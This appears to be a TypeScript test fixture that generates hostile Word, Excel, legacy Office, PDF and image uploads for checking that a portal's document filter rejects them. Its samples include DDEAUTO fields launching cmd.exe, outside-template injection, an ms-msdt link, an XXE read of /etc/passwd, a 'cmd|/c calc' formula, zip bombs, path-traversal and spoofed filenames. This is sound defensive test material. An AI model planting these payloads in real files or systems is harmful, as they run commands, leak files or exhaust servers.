/** Word and Excel files, images and names that no portal should let through, made by script. */
import {
  compoundFile,
  DOCX_PARTS,
  EICAR,
  pdfWith,
  pngClaiming,
  relationship,
  relationships,
  XLSX_PARTS,
  buildZip,
} from "~/app/services/documents/uploads/sample-files";

import type { HostileFile } from "./hostile-pdfs";

const docx = (kind: string, changes: Readonly<Record<string, string | Buffer>>): HostileFile => ({
  kind,
  name: "letter.docx",
  content: buildZip({ ...DOCX_PARTS, ...changes }),
});
const xlsx = (kind: string, changes: Readonly<Record<string, string | Buffer>>): HostileFile => ({
  kind,
  name: "accounts.xlsx",
  content: buildZip({ ...XLSX_PARTS, ...changes }),
});
const file = (kind: string, name: string, content: Buffer): HostileFile => ({ kind, name, content });

const WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const body = (content: string): Record<string, string> => ({
  "word/document.xml": `<w:document xmlns:w="${WORD}"><w:body><w:p>${content}</w:p></w:body></w:document>`,
});
const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const run = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const links = (link: string): Record<string, string> => ({
  "word/_rels/settings.xml.rels": relationships(link),
});
const TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";

function wordFiles(): readonly HostileFile[] {
  return [
    docx("an outside template", links(relationship("attachedTemplate", "http://x/t.dotm", true))),
    docx(
      "an outside template written with entities",
      links(`<Relationship Id="r1" Type="${TEMPLATE}" Target="http://x/" TargetMode="&#69;xternal"/>`),
    ),
    docx(
      "an outside template behind a bracket",
      links(`<Relationship Id="r1 &gt; >" Type="${TEMPLATE}" Target="http://x/>" TargetMode="External"/>`),
    ),
    docx(
      "an outside template that does not say so",
      links(`<Relationship Id="r1" Type="${TEMPLATE}" Target="http://x/t.dotm"/>`),
    ),
    docx(
      "an outside template by a share",
      links(`<Relationship Id="r1" Type="${TEMPLATE}" Target="\\\\host\\t.dotm"/>`),
    ),
    docx("an outside template in capitals", {
      "WORD/_RELS/SETTINGS.XML.RELS": relationships(
        relationship("attachedTemplate", "http://x/t.dotm", true),
      ),
    }),
    docx("a link that starts a program", links(relationship("hyperlink", "ms-msdt:/id", true))),
    docx("an outside frame", links(relationship("frame", "http://x/", true))),
    docx("a page within", { ...links(relationship("aFChunk", "a.html")), "word/a.html": "<html></html>" }),
    docx("a DDE field", body(run("DDEAUTO c:\\\\cmd.exe"))),
    docx(
      "a DDE field cut into runs",
      body(mark("begin") + run("D") + run("DEAU") + run("TO c:\\\\cmd.exe") + mark("end")),
    ),
    docx("a DDE field in an attribute", body('<w:fldSimple w:instr="&#68;DE c cmd"/>')),
    docx("a DDE field in CDATA", body(run("<![CDATA[DDE]]>AUTO c"))),
    docx(
      "a field whose name is worked out",
      body(
        mark("begin") +
          mark("begin") +
          run("QUOTE 68 68 69") +
          mark("end") +
          run(" c:\\\\cmd.exe") +
          mark("end"),
      ),
    ),
    docx(
      "a text that is included from elsewhere",
      body(mark("begin") + run(' INCLUDETEXT "http://x/"') + mark("end")),
    ),
    docx("an outside entity", {
      "word/document.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    }),
    docx("a billion laughs", {
      "word/document.xml": '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    }),
    docx("a document type in UTF-16", {
      "word/document.xml": Buffer.from("\ufeff<!DOCTYPE x><x/>", "utf16le"),
    }),
    docx("an encoding that hides", {
      "word/document.xml": '<?xml version="1.0" encoding="UTF-7"?><x>+ADw-/x>',
    }),
    docx("XML of another name", { "word/document.bin": `<w:x xmlns:w="${WORD}">${run("DDEAUTO c")}</w:x>` }),
    docx("XML that is not closed", { "word/document.xml": "<w:document><w:body>" }),
    docx("elements within elements without end", {
      "word/document.xml": "<a>".repeat(100_000) + "</a>".repeat(100_000),
    }),
    docx("macros", { "word/vbaProject.bin": "x" }),
    docx(
      "macros by another name",
      links(
        `<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>`,
      ),
    ),
    docx("a control", { "word/activeX/activeX1.bin": "x" }),
    docx("an archive inside", { "word/embeddings/a.bin": buildZip({ a: "b" }) }),
    docx("a program inside", { "word/media/image2.png": Buffer.from("MZ\x90\0") }),
    docx("two parts of one name", { "WORD/DOCUMENT.XML": "<x/>" }),
    docx("the test virus", { "word/media/image2.png": EICAR }),
    docx("names that lead out of the folder", { "../../etc/passwd": "x" }),
    docx(
      "entries without number",
      Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`word/${String(n)}.xml`, ""])),
    ),
    file("an encrypted archive", "a.docx", buildZip(DOCX_PARTS, { encrypted: true })),
    file(
      "an archive behind something else",
      "a.docx",
      buildZip(DOCX_PARTS, { prefix: Buffer.from("#!/bin/sh\n") }),
    ),
    file(
      "something between the entries",
      "a.docx",
      buildZip(DOCX_PARTS, { between: Buffer.from("PK\u0003\u0004hidden") }),
    ),
    file("entries of two names", "a.docx", buildZip(DOCX_PARTS, { otherName: true })),
  ];
}

function excelFiles(): readonly HostileFile[] {
  return [
    xlsx("a link to a program", {
      "xl/externalLinks/externalLink1.xml":
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>',
    }),
    xlsx("a connection", {
      "xl/connections.xml":
        '<connections><connection id="1" type="4"><webPr url="http://x/"/></connection></connections>',
    }),
    xlsx("a formula that fetches", {
      "xl/worksheets/sheet1.xml": "<worksheet><f>_xlfn.WEBSERVICE(&quot;http://x/&quot;)</f></worksheet>",
    }),
    xlsx("a formula that starts a program", {
      "xl/worksheets/sheet1.xml": "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>",
    }),
    xlsx("a sheet of macros", { "xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='x'/>" }),
    xlsx("a bomb of zeros", { "xl/sheet.xml": Buffer.alloc(60_000_000) }),
    file(
      "a bomb that lies about its size",
      "a.xlsx",
      buildZip({ ...XLSX_PARTS, "xl/sheet.xml": Buffer.alloc(40_000_000) }, { claimedSize: 9 }),
    ),
    file("a bomb of overlapping entries", "a.xlsx", buildZip(XLSX_PARTS, { overlapping: true })),
    file(
      "seventeen archives in one another",
      "a.xlsx",
      Array.from({ length: 17 }).reduce<Buffer>(
        (inner) => buildZip({ ...XLSX_PARTS, "xl/a.bin": inner }),
        Buffer.from("x"),
      ),
    ),
  ];
}

function oldFiles(): readonly HostileFile[] {
  const field = Buffer.from("\u0013DDEAUTO c:\\cmd.exe\u0014\u0015", "latin1");
  const wide = Buffer.from("\u0013 DDEAUTO c:\\cmd.exe\u0014\u0015", "utf16le");
  const record = (kind: number, data: readonly number[]): Buffer =>
    Buffer.from([kind & 0xff, kind >> 8, data.length, 0, ...data]);
  return [
    file("macros", "a.doc", compoundFile("WordDocument", "Macros", "VBA")),
    file("macros in small letters", "a.doc", compoundFile("WordDocument", "macros", "vba")),
    file("macros in mixed letters", "a.xls", compoundFile("Workbook", "_vBa_ProJect_CUR")),
    file("an object", "a.doc", compoundFile("WordDocument", "\u0001oLE10nATIVE")),
    file("a DDE field", "a.doc", compoundFile({ WordDocument: Buffer.concat([Buffer.alloc(512), field]) })),
    file(
      "a DDE field of wide characters",
      "a.doc",
      compoundFile({ WordDocument: Buffer.concat([Buffer.alloc(512), wide]) }),
    ),
    file(
      "an encrypted document",
      "a.doc",
      compoundFile({ WordDocument: Buffer.from([...Buffer.alloc(11), 1, ...Buffer.alloc(20)]) }),
    ),
    file("an encrypted workbook", "a.xls", compoundFile({ Workbook: record(0x2f, [0, 0]) })),
    file(
      "a sheet of old macros",
      "a.xls",
      compoundFile({ Workbook: record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]) }),
    ),
    file(
      "a link to a program",
      "a.xls",
      compoundFile({ Workbook: record(0x1ae, [1, 0, 5, 0, 0, 65, 3, 66, 66]) }),
    ),
    file("a directory in a circle", "a.doc", inACircle()),
    file("a workbook called document", "a.doc", compoundFile("Workbook")),
  ];
}

/** Each sector of the directory is followed by itself. */
function inACircle(): Buffer {
  const content = compoundFile("WordDocument");
  content.writeUInt32LE(1, 512 + 4);
  return content;
}

function otherFiles(): readonly HostileFile[] {
  return [
    file("nothing at all", "a.pdf", Buffer.alloc(0)),
    file("one byte", "a.pdf", Buffer.from("x")),
    file(
      "a page that is a PDF, too",
      "a.pdf",
      Buffer.concat([Buffer.from("%PDF-1.7\n<html><script>"), pdfWith("")]),
    ),
    file("an archive that is a PDF, too", "a.pdf", Buffer.concat([pdfWith(""), buildZip({ a: "b" })])),
    file("a program behind a second extension", "a.pdf.exe", pdfWith("")),
    file("an image of 2.5 thousand million pixels", "a.png", pngClaiming(50_000, 50_000)),
    file("a GIF with a script called JPEG", "a.jpg", Buffer.from("GIF89a=1;alert(1)")),
    file("a name that turns around", "a\u202efdp.exe.pdf", pdfWith("")),
    file("a name with nothing in it", "a\u200bb.pdf", pdfWith("")),
    file("a PDF called Word", "a.docx", pdfWith("")),
    file("a Word file called PDF", "a.pdf", buildZip(DOCX_PARTS)),
    file("a Word file called Excel", "a.xlsx", buildZip(DOCX_PARTS)),
  ];
}

export const hostileOfficeFiles = (): readonly HostileFile[] => [
  ...wordFiles(),
  ...excelFiles(),
  ...oldFiles(),
  ...otherFiles(),
];
